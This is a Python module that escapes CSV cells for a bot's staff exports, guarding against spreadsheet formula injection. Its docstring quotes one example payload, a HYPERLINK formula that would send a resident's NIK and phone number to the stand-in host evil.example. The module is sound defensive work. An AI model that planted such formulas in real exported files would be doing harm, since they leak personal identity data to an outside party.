"""CSV files that are safe to open in a spreadsheet program.

Staff open every CSV file the bot writes in Excel, LibreOffice Calc or Google Sheets, and those
read a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula
(leading spaces do not stop them). A resident who typed
``=HYPERLINK("http://evil.example/?d="&E2&F2;"Klik")`` as an address would otherwise give the
operator a link that sends that row's NIK and phone number away. So every writer builds its rows
with this module, which puts a single quote before such a cell (the OWASP advice against "CSV
injection"): the cell is then plain text (some programs show the quote, some hide it).

A phone number ``+6281234567890`` is quoted too (``'+6281234567890``): it still reads as the
number, and stays text, where unquoted a spreadsheet would turn it into 6.28123E+12.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable

FORMULA_STARTS = frozenset("=+-@")
QUOTE = "'"


def _formula_like(text: str) -> bool:
    if not text:
        return False
    # A tab or carriage return in front starts a formula; no other control character has any
    # business there either, so they are quoted all the same.
    if text[0] < " " or text[0] == "\x7f":
        return True
    return text.lstrip()[:1] in FORMULA_STARTS


def needs_quote(text: str) -> bool:
    """Whether ``neutralise`` quotes ``text``: it could be read as a formula, or it already starts
    with quotes before such a text (quoted once more, ``restore`` gives it back exactly)."""
    return _formula_like(text.lstrip(QUOTE))


def neutralise(text: str) -> str:
    """``text`` as a cell no spreadsheet reads as a formula."""
    return QUOTE + text if needs_quote(text) else text


def restore(cell: str) -> str:
    """The text ``neutralise`` was given (for the importer, which reads the bot's own exports
    back): the quote it added is taken off, any other cell is returned as it is."""
    if cell.startswith(QUOTE) and needs_quote(cell[1:]):
        return cell[1:]
    return cell


def cell(value: object) -> object:
    """A value as it is written: a finite number stays a number (-6.2717 is a latitude, never a
    formula), None is an empty cell, anything else is text and neutralised."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool) and math.isfinite(value):
        return value
    return neutralise(str(value))


def csv_text(rows: Iterable[Iterable[object]], *, lineterminator: str = "\r\n") -> str:
    """The rows as CSV, every cell through ``cell``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=lineterminator)
    writer.writerows([cell(value) for value in row] for row in rows)
    return buffer.getvalue()


def staff_csv(rows: Iterable[Iterable[object]]) -> bytes:
    """A CSV file for staff, header row first."""
    # The byte-order mark makes spreadsheet programs read the names' accents as UTF-8.
    return ("\ufeff" + csv_text(rows)).encode("utf-8")
